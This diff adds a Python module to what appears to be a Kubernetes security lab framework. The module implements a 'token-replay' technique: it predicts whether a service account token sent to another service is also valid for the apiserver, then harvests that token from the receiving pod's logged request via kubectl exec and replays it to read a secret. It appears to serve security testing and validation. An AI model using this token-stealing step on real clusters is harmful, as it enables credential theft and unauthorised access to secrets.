@@ -1,0 +1,100 @@
+"""Call the apiserver with a token that a pod showed to another service.
+
+A service that wants to know who calls takes a service account's token. If it is the one for
+the apiserver, the service, and whoever has got at its logs, is that account from then on.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeTimeout
+from labkit.model import View
+from labkit.model.rights import Action, service_account
+from labkit.model.workloads import audience_in
+from labkit.techniques._access import CHANNEL, apiserver_of, may_all
+from labkit.techniques._base import OUTSIDE, SECRETS, Prediction, Technique
+from labkit.techniques._tokens import NAME, NAMESPACE, made_for_apiserver, present
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+SENDER, RECEIVER = "reporter", "collector"
+ACTION = Action("get", "secrets", namespace=NAMESPACE, name=NAME)
+#: The next request, as the receiver logs it: it comes every few seconds.
+NEXT = """
+rm -f /tmp/request; tries=0
+until [ -s /tmp/request ]; do
+  tries=$((tries + 1)); [ $tries -lt 100 ] || exit 1; sleep 0.2
+done
+cat /tmp/request
+"""
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: for whom the token is, and what its account may do."""
+    apiserver, audience = apiserver_of(view.env), audience_in(view.env, NAMESPACE, SENDER)
+    if audience is None:
+        return Prediction(False, (f"{NAMESPACE}/{SENDER} shows no token",))
+    own = apiserver.given("api-audiences") or apiserver.setting("service-account-issuer")
+    if audience.value and audience.value not in own.value.split(","):
+        said = f"the token is for {audience.value}: {audience.source}"
+        return Prediction(False, (said, f"the apiserver is {own.value}: {own.source}"))
+    account = service_account(NAMESPACE, SENDER, audience.source)
+    return may_all(view, account, [ACTION])
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Take the token out of the receiver's log, and ask for a secret with it."""
+    return present(
+        lab,
+        TECHNIQUE.name,
+        foothold,
+        _received(lab),
+        f"the token that {NAMESPACE}/{SENDER} showed to {NAMESPACE}/{RECEIVER}",
+        lambda: made_for_apiserver(lab, foothold, SENDER),
+    )
+
+
+def _received(lab: Lab) -> str:
+    """Return the token of the next request."""
+    argv = ("exec", f"--namespace={NAMESPACE}", RECEIVER, "--", "sh", "-c", NEXT)
+    logged = lab.kubectl(*argv, check=False)
+    found = re.search(r"^Authorization: Bearer (\S+)\s*$", logged.text, re.MULTILINE)
+    if logged.exit_code or found is None:
+        raise ProbeTimeout(f"{NAMESPACE}/{RECEIVER} was shown no token")
+    return found[1]
+
+
+def _settings(env: Environment) -> list[Setting]:
+    audience = audience_in(env, NAMESPACE, SENDER)
+    if audience is None:
+        return []
+    whom = audience.value or "the apiserver"
+    return [(f"for whom {SENDER}'s token is", whom, str(audience.source))]
+
+
+TECHNIQUE = Technique(
+    name="token-replay",
+    title="Show the apiserver a token that was meant for another service",
+    footholds=(OUTSIDE,),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1550.001", "T1528"),
+    stride=("spoofing", "elevation of privilege"),
+    cwe=("CWE-294", "CWE-522"),
+    sources=(
+        "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/"
+        "#launch-a-pod-using-service-account-token-projection",
+        "https://attack.mitre.org/techniques/T1550/001/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
